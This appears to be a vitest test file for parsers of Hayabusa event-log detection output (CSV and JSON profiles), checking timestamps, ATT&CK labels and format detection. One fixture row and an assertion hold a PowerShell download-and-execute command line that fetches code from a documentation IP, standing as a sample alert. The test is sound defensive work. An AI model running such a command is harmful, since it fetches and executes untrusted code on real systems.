import { describe, expect, it } from 'vitest';
import { FIXTURES } from '../../../test/format-fixtures.js';
import { parseText, sampleOf, split } from '../../../test/ingest.js';
import { detectFormat } from '../registry.js';
import type { FormatParser, ParsedRecord } from '../types.js';
import { hayabusaCsvParser, hayabusaJsonParser } from './hayabusa.js';

const BAR = ' \u00a6 ';
const iso = (ms: number): string => new Date(ms).toISOString();

/** Each record's byte range, parsed on its own (after the header for CSV), gives the same event. */
async function expectExactRanges(
  parser: FormatParser,
  bytes: Uint8Array,
  records: readonly ParsedRecord[],
  header = '',
) {
  for (const r of records) {
    if (!r.ok) continue;
    const own = new TextDecoder().decode(bytes.subarray(r.where.offset, r.where.offset + r.where.length));
    const again = await parseText(parser, `${header}${own}\n`);
    expect(again.map((x) => (x.ok ? x.event : x.reason))).toEqual([r.event]);
  }
}

// The standard profile (config/profiles.yaml), as `hayabusa csv-timeline` writes it: every text quoted, numbers not.
const STANDARD_HEADER =
  '"Timestamp","RuleTitle","Level","Computer","Channel","EventID","RecordID","Details","ExtraFieldInfo"\n';
const STANDARD = [
  STANDARD_HEADER,
  `"2021-12-12 16:16:04.237 +09:00","Logon (Network)","info","fs03vuln.offsec.lan","Sec",4624,1160369,`,
  `"Type: 3${BAR}TgtUser: admmig${BAR}SrcComp: -${BAR}SrcIP: 10.23.123.11${BAR}LID: 0x87249a8",`,
  `"AuthenticationPackageName: NTLM${BAR}IpPort: 60174${BAR}TargetDomainName: OFFSEC"\n`,
  `"2021-12-12 16:17:00.000 +09:00","Logon Failure (Wrong Password)","low","fs03vuln.offsec.lan","Sec",4625,1160370,`,
  `"Type: 3${BAR}TgtUser: admin${BAR}SrcComp: KALI${BAR}SrcIP: 203.0.113.66${BAR}AuthPkg: NTLM${BAR}Proc: -",""\n`,
].join('');

// The verbose profile: tactics abbreviated, tags and files added.
const VERBOSE = [
  '"Timestamp","RuleTitle","Level","Computer","Channel","EventID","MitreTactics","MitreTags","OtherTags",',
  '"RecordID","Details","ExtraFieldInfo","RuleFile","EvtxFile"\n',
  `"2022-02-22 22:00:00.123 -06:00","Susp PowerShell Download Cradle","crit","WIN10-PC","Sysmon",1,`,
  `"Exec${BAR}C2","T1059.001${BAR}T1105${BAR}G0016","sysmon",4321,`,
  `"Cmdline: powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')${BAR}`,
  `Proc: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe${BAR}User: CORP\\alice${BAR}`,
  `ParentCmdline: C:\\Windows\\explorer.exe${BAR}PID: 0x1a2c${BAR}ParentPID: 4012${BAR}`,
  `Hashes: SHA1=AAAA,SHA256=5F4DCC3B5AA765D61D8327DEB882CF99AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",`,
  `"CurrentDirectory: C:\\Users\\alice\\","proc_creation_win_powershell_download.yml",`,
  `"C:\\evtx\\Microsoft-Windows-Sysmon%4Operational.evtx"\n`,
].join('');

describe('hayabusaCsvParser', () => {
  it('reads the standard profile: time with offset to UTC, levels, host, event code, user and address', async () => {
    const bytes = new TextEncoder().encode(STANDARD);
    const records = await parseText(hayabusaCsvParser, bytes, {}, 50);
    const { events, rejected } = split(records);
    expect(rejected).toEqual([]);
    expect(events.map((e) => [iso(e.time.epochMs), e.time.assumed, e.code, e.kind, e.hostName])).toEqual([
      ['2021-12-12T07:16:04.237Z', false, '4624', 'event', 'fs03vuln.offsec.lan'],
      ['2021-12-12T07:17:00.000Z', false, '4625', 'alert', 'fs03vuln.offsec.lan'],
    ]);
    const [logon, failure] = events;
    expect(logon?.time.text).toBe('2021-12-12 16:16:04.237 +09:00');
    expect([logon?.userName, logon?.userDomain, logon?.sourceIp, logon?.sourcePort]).toEqual([
      'admmig',
      'OFFSEC',
      '10.23.123.11',
      60174,
    ]);
    expect([logon?.dataset, logon?.category]).toEqual(['windows.security', 'authentication']);
    expect(logon?.labels).toMatchObject({
      'source.tool': 'hayabusa',
      'rule.name': 'Logon (Network)',
      'rule.level': 'informational',
      record_id: '1160369',
      logon_type: '3',
      logon_id: '0x87249a8',
    });
    expect(failure?.labels?.['rule.level']).toBe('low');
    expect(failure?.processExecutable).toBeUndefined(); // "Proc: -" is no process
    expect(logon?.message).toBe(
      'Logon (Network) (informational) on fs03vuln.offsec.lan: Type: 3 ¦ TgtUser: admmig ¦ SrcIP: 10.23.123.11 ¦ LID: 0x87249a8',
    );
    await expectExactRanges(hayabusaCsvParser, bytes, records, STANDARD_HEADER);
  });

  it('reads the verbose profile: ATT&CK ids and tactics, rule file, process, parent and hash from Details', async () => {
    const { events, rejected } = split(await parseText(hayabusaCsvParser, VERBOSE));
    expect(rejected).toEqual([]);
    const [e] = events;
    expect(iso(e?.time.epochMs ?? 0)).toBe('2022-02-23T04:00:00.123Z');
    expect([e?.kind, e?.code, e?.dataset, e?.hostName]).toEqual(['alert', '1', 'windows.sysmon', 'WIN10-PC']);
    expect(e?.labels).toMatchObject({
      'rule.level': 'critical',
      'threat.technique.id': 'T1059.001,T1105',
      'threat.tactic.name': 'Execution,Command and Control',
      'rule.tags': 'G0016,sysmon',
      'rule.file': 'proc_creation_win_powershell_download.yml',
      evtx_file: 'C:\\evtx\\Microsoft-Windows-Sysmon%4Operational.evtx',
    });
    expect([e?.userName, e?.userDomain, e?.processName, e?.processPid, e?.parentPid]).toEqual([
      'alice',
      'CORP',
      'powershell.exe',
      0x1a2c,
      4012,
    ]);
    // A value keeps everything after the first ": " of its pair, colons and all.
    expect(e?.processCommandLine).toBe(
      "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
    );
    expect(e?.parentCommandLine).toBe('C:\\Windows\\explorer.exe');
    expect(e?.fileHash).toBe('5f4dcc3b5aa765d61d8327deb882cf99aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa');
  });

  it('reads the other time formats (-U, --RFC-3339, --ISO-8601, --RFC-2822, --US-time, --European-time)', async () => {
    const row = (ts: string) => `"${ts}","Proc Exec","info","PC","Sec",4688,1,"",""\n`;
    const stamps = [
      '2022-02-22 10:00:00.123 +00:00',
      '2022-02-22 04:00:00.123456-06:00',
      '2022-02-22T10:00:00.1234567Z',
      'Tue, 22 Feb 2022 04:00:00 -0600',
      '02-22-2022 04:00:00.123 AM -06:00',
      '22-02-2022 11:00:00.123 +01:00',
    ];
    const { events, rejected } = split(
      await parseText(hayabusaCsvParser, STANDARD_HEADER + stamps.map(row).join('')),
    );
    expect(rejected).toEqual([]);
    expect(events.map((e) => iso(e.time.epochMs))).toEqual([
      '2022-02-22T10:00:00.123Z',
      '2022-02-22T10:00:00.123Z',
      '2022-02-22T10:00:00.123Z',
      '2022-02-22T10:00:00.000Z',
      '2022-02-22T10:00:00.123Z',
      '2022-02-22T10:00:00.123Z',
    ]);
  });

  it('rejects a bad time, an ambiguous day-month date and a row of the wrong width, and keeps the rest', async () => {
    const text = [
      STANDARD_HEADER,
      '"yesterday","Proc Exec","info","PC","Sec",4688,1,"",""\n',
      '"03-04-2022 10:00:00.000 +00:00","Proc Exec","info","PC","Sec",4688,2,"",""\n',
      '"2022-03-04 10:00:00.000 +00:00","Proc Exec","info","PC"\n',
      '"2022-03-04 10:00:01.000 +00:00","Proc Exec","info","PC","Sec",4688,3,"",""\n',
    ].join('');
    const { events, rejected } = split(await parseText(hayabusaCsvParser, text));
    expect(events.map((e) => e.labels?.record_id)).toEqual(['3']);
    expect(rejected.map((r) => [r.where.line, r.reason])).toEqual([
      [2, '"yesterday" is not a Hayabusa timestamp'],
      [
        3,
        '"03-04-2022 10:00:00.000 +00:00": day and month cannot be told apart (run Hayabusa with --ISO-8601)',
      ],
      [4, 'row has 4 fields, the header has 9'],
    ]);
  });
});

const JSON_RECORDS = [
  {
    Timestamp: '2016-08-19 08:06:57.658 +09:00',
    RuleTitle: 'Proc Exec',
    Level: 'info',
    Computer: 'IE10Win7',
    Channel: 'Sec',
    EventID: 4688,
    RecordID: 6845,
    Details: {
      CmdLine: 'C:\\Windows\\system32\\ipconfig /release',
      Path: 'C:\\Windows\\System32\\ipconfig.exe',
      PID: '0xcf4',
      User: 'IE10WIN7$',
      LID: '0x3e7',
    },
  },
  {
    Timestamp: '2021-12-12 16:16:04.237 +09:00',
    Computer: 'fs03vuln.offsec.lan',
    Channel: 'Sec',
    Provider: 'Microsoft-Windows-Security-Auditing',
    EventID: 4624,
    Level: 'high',
    MitreTactics: ['LatMov'],
    MitreTags: ['T1021.002'],
    OtherTags: [],
    RecordID: 1160369,
    RuleTitle: 'Logon (Network)',
    RuleAuthor: 'Zach Mathis',
    RuleID: '7beb4832-f357-47a4-afd8-803d69a5c85c',
    Status: 'stable',
    Details: { Type: 3, TgtUser: 'admmig', SrcComp: '', SrcIP: '10.23.123.11', LID: '0x87249a8' },
    AllFieldInfo: { IpPort: 60174, TargetDomainName: 'OFFSEC', TargetUserName: 'admmig' },
  },
];

describe('hayabusaJsonParser', () => {
  it('reads json-timeline (pretty-printed objects), -L (JSON lines) and the older array alike', async () => {
    const pretty = `${JSON_RECORDS.map((r) => JSON.stringify(r, null, 4)).join('\n')}\n`;
    const jsonl = `${JSON_RECORDS.map((r) => JSON.stringify(r)).join('\n')}\n`;
    const array = JSON.stringify(JSON_RECORDS, null, 4);
    const results = [];
    for (const text of [pretty, jsonl, array]) {
      const bytes = new TextEncoder().encode(text);
      const records = await parseText(hayabusaJsonParser, bytes, {}, 64);
      const { events, rejected } = split(records);
      expect(rejected).toEqual([]);
      await expectExactRanges(hayabusaJsonParser, bytes, records);
      results.push(events);
    }
    expect(results[1]).toEqual(results[0]);
    expect(results[2]).toEqual(results[0]);
    const [exec, logon] = results[0] ?? [];
    expect([iso(exec?.time.epochMs ?? 0), exec?.code, exec?.processPid, exec?.userName]).toEqual([
      '2016-08-18T23:06:57.658Z',
      '4688',
      0xcf4,
      'IE10WIN7$',
    ]);
    expect(exec?.processCommandLine).toBe('C:\\Windows\\system32\\ipconfig /release');
    expect(exec?.filePath).toBe('C:\\Windows\\System32\\ipconfig.exe');
    expect(logon?.labels).toMatchObject({
      'source.tool': 'hayabusa',
      'rule.level': 'high',
      'rule.id': '7beb4832-f357-47a4-afd8-803d69a5c85c',
      'rule.author': 'Zach Mathis',
      'threat.technique.id': 'T1021.002',
      'threat.tactic.name': 'Lateral Movement',
      logon_type: '3',
    });
    expect([logon?.kind, logon?.userDomain, logon?.sourcePort, logon?.provider]).toEqual([
      'alert',
      'OFFSEC',
      60174,
      'Microsoft-Windows-Security-Auditing',
    ]);
  });

  it('rejects a broken line and an object without a time, and reads on', async () => {
    const text = `${JSON.stringify(JSON_RECORDS[0])}\n{"Timestamp": "2016-08-19\n${JSON.stringify({ ...JSON_RECORDS[1], Timestamp: 'soon' })}\n${JSON.stringify(JSON_RECORDS[1])}\n`;
    const { events, rejected } = split(await parseText(hayabusaJsonParser, text));
    expect(events.map((e) => e.labels?.record_id)).toEqual(['6845', '1160369']);
    expect(rejected.map((r) => r.where.line)).toEqual([2, 3]);
    expect(rejected[0]?.reason).toMatch(/^invalid JSON on line 2/);
    expect(rejected[1]?.reason).toBe('"soon" is not a Hayabusa timestamp');
  });
});

describe('Hayabusa detection', () => {
  it('detects Hayabusa CSV and JSON ahead of generic CSV and Windows JSON, and only those', () => {
    expect(detectFormat(sampleOf(STANDARD, 'results.csv'))?.parser.name).toBe('hayabusa-csv');
    expect(detectFormat(sampleOf(VERBOSE, 'results.csv'))?.parser.name).toBe('hayabusa-csv');
    const pretty = JSON_RECORDS.map((r) => JSON.stringify(r, null, 2)).join('\n');
    expect(detectFormat(sampleOf(pretty, 'results.json'))?.parser.name).toBe('hayabusa-json');
    expect(hayabusaCsvParser.detect(sampleOf(FIXTURES.csv.content as string, 'export.csv'))).toBe(0);
    expect(hayabusaCsvParser.detect(sampleOf('Timestamp,Level,Message\n2022-01-01,high,x\n', 'a.csv'))).toBe(
      0,
    );
    expect(hayabusaJsonParser.detect(sampleOf(FIXTURES['windows-json'].content as string, 'w.json'))).toBe(0);
    expect(hayabusaJsonParser.detect(sampleOf(FIXTURES['chainsaw-json'].content as string, 'c.json'))).toBe(
      0,
    );
  });
});
